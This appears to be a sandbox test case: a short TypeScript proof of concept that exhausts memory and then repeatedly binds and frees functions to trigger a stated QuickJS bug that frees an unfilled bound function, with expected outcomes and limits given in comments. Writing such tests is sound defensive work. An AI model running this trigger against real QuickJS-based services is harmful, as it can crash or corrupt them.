// attack: bind at the very end of the memory: QuickJS frees a bound function that it has not filled yet
// outcome: limit|killed e
// outcome: ok null
// control: none: nothing would end it outside
// limits: memory_mib = 64, timeout_seconds = 60
const f = () => 1;
const held: unknown[] = [];
for (let size = 1 << 16; size >= 8; size >>= 1) {
  try {
    for (;;) held.push(new Uint8Array(size));
  } catch {}
}
for (let round = 0; round < 2000; round++) {
  try {
    for (let count = 0; count < 50; count++) held.push(f.bind(null, 1, 2, 3, 4, 5, 6, 7, 8));
  } catch {}
  held.length -= 1 + (round % 40);
}
